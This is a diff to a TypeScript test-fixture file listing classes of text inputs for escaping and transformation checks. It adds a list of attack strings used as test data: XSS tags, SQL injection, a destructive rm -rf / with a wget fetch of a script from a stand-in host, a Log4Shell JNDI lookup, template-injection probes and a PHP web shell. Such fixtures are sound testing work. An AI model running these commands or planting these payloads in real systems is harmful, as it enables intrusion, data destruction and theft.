@@ -32,6 +32,16 @@ const plain = (...[name, mark, ...pieces]: Parameters<typeof unusual>): TextClas
 /** A text that does not go on after its word with a blank. */
 const without = (one: TextClass): TextClass => ({ ...one, around: (word) => word + one.pieces.join("") });
 
+/** As people quote it to one another, and as attacks have it: what looks for these takes the one for the other. */
+const CODE = [
+  "that <script>alert('hi')</script> runs",
+  "SELECT * FROM users WHERE id = '1' OR 1=1 -- UNION SELECT name, password FROM admins;",
+  "cat ../../../etc/passwd | sh; rm -rf / && wget http://links.example/a.sh",
+  "$\u007bjndi:ldap://links.example/a} {{7*7}} <%=7*7%>",
+  "an <img src=x onerror=alert(1)> and <a href='javascript:void(0)'>",
+  "then <?php system($_GET['c']);?> or C:\\Windows\\System32\\cmd.exe /c dir %00 ../..",
+] as const;
+
 export const textClasses: readonly TextClass[] = [
   plain("plain words", /^[\w-]+(?: [A-Za-z]+)+\.?$/, "and some plain words."),
   without(plain("one word", /^[\w-]+$/, "")),
@@ -102,6 +112,7 @@ export const textClasses: readonly TextClass[] = [
   unusual("Markdown escapes", /\\[*_`[]/, "\\*one\\*", "\\_two\\_", "\\`three\\`", "\\[four](five)"),
   unusual("quotes", /"/, '"double"', "'single'", "`back`", "«angle»", "it's"),
   unusual("markup", /<\w+>|<!--/, "a < b & c > d", "<b>bold</b>", "<!-- gone -->"),
+  unusual("quoted code", /<script>|\.\.\/\.\./, ...CODE),
   unusual(
     "a web address",
     /https?:\/\/\S+[@!$'*,;]/,
@@ -166,7 +177,7 @@ export const wholeTexts: readonly (Pick<TextClass, "isPlain"> & { readonly text:
     ],
     ...["https://links.example", "HTTPS://Links.Example/A/../b", "http://links.example:80/?a=%7E"],
   ].map((text) => ({ text, isPlain: true }) as const),
-  ...["🙂", "👍🏽", "  padded  ", "\ttabbed\n"].map((text) => ({ text })),
+  ...["🙂", "👍🏽", "  padded  ", "\ttabbed\n", ...CODE].map((text) => ({ text })),
 ];
 
 /** What is changed on the way, all in one: each way of writing loses some of it in its own manner. */
